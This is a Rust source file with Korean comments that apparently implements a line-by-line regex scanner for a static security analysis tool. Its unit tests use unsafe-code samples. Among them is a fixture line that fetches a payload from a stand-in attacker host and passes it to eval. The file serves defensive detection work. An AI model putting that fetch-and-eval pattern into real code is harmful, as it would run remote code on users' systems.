//! 행 단위 정규식 스캐너
//!
//! 규칙 테이블의 정규식을 파일 내용의 각 행에 독립적으로 적용합니다.
//! 한 행이 여러 규칙에 걸리면 규칙마다 탐지 결과가 하나씩 나옵니다.

use aegis_core::types::Finding;

use crate::rules::{Language, rules_for};

/// 코드 조각 최대 길이 (문자)
pub(crate) const SNIPPET_MAX_CHARS: usize = 100;

/// 행을 트림하고 100자로 자른 코드 조각을 만듭니다.
pub(crate) fn make_snippet(line: &str) -> String {
    line.trim().chars().take(SNIPPET_MAX_CHARS).collect()
}

/// 행 단위 정규식 스캐너
pub struct PatternScanner;

impl PatternScanner {
    /// 파일 내용을 언어 규칙 테이블로 스캔합니다.
    ///
    /// 행 번호는 1부터 시작합니다. 순서는 규칙 우선, 규칙 내에서는
    /// 행 번호 순입니다.
    pub fn scan(content: &str, language: Language, file_path: &str) -> Vec<Finding> {
        let mut findings = Vec::new();

        for rule in rules_for(language) {
            for (line_num, line) in content.lines().enumerate() {
                if rule.pattern.is_match(line) {
                    findings.push(Finding {
                        rule_id: rule.id.to_owned(),
                        severity: rule.severity,
                        message: rule.message.to_owned(),
                        file_path: file_path.to_owned(),
                        line_number: line_num + 1,
                        code_snippet: Some(make_snippet(line)),
                    });
                }
            }
        }

        findings
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use aegis_core::types::Severity;

    #[test]
    fn detects_yaml_load() {
        let content = "import yaml\ndata = yaml.load(stream)\n";
        let findings = PatternScanner::scan(content, Language::Python, "app.py");

        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].rule_id, "PY001");
        assert_eq!(findings[0].severity, Severity::High);
        assert_eq!(findings[0].line_number, 2);
        assert_eq!(findings[0].code_snippet.as_deref(), Some("data = yaml.load(stream)"));
    }

    #[test]
    fn line_numbers_are_one_based() {
        let content = "eval(x)\n";
        let findings = PatternScanner::scan(content, Language::JavaScript, "a.js");
        assert_eq!(findings[0].line_number, 1);
    }

    #[test]
    fn one_line_can_match_multiple_rules() {
        let content = r#"eval(fetch("http://evil.example/payload"))"#;
        let findings = PatternScanner::scan(content, Language::JavaScript, "a.js");

        let ids: Vec<&str> = findings.iter().map(|f| f.rule_id.as_str()).collect();
        assert!(ids.contains(&"JS002"));
        assert!(ids.contains(&"JS003"));
    }

    #[test]
    fn each_matching_line_emits_one_finding_per_rule() {
        let content = "yaml.load(a)\nx = 1\nyaml.load(b)\n";
        let findings = PatternScanner::scan(content, Language::Python, "app.py");
        assert_eq!(findings.len(), 2);
        assert_eq!(findings[0].line_number, 1);
        assert_eq!(findings[1].line_number, 3);
    }

    #[test]
    fn snippet_is_trimmed_and_truncated() {
        let long_tail = "x".repeat(300);
        let content = format!("    eval({long_tail})\n");
        let findings = PatternScanner::scan(&content, Language::JavaScript, "a.js");

        let snippet = findings[0].code_snippet.as_deref().unwrap();
        assert!(snippet.starts_with("eval("));
        assert_eq!(snippet.chars().count(), 100);
    }

    #[test]
    fn clean_content_has_no_findings() {
        let content = "import json\ndata = json.loads(s)\n";
        let findings = PatternScanner::scan(content, Language::Python, "app.py");
        assert!(findings.is_empty());
    }

    #[test]
    fn empty_content_has_no_findings() {
        assert!(PatternScanner::scan("", Language::Python, "app.py").is_empty());
    }

    #[test]
    fn line_numbers_within_file_bounds() {
        let content = "a\nyaml.load(x)\nsubprocess.run(c, shell=True)\n";
        let line_count = content.lines().count();
        let findings = PatternScanner::scan(content, Language::Python, "app.py");
        assert!(!findings.is_empty());
        for finding in &findings {
            assert!(finding.line_number >= 1);
            assert!(finding.line_number <= line_count);
        }
    }

    #[test]
    fn python_rules_do_not_apply_to_javascript() {
        let content = "yaml.load(stream)\n";
        let findings = PatternScanner::scan(content, Language::JavaScript, "a.js");
        assert!(findings.is_empty());
    }
}
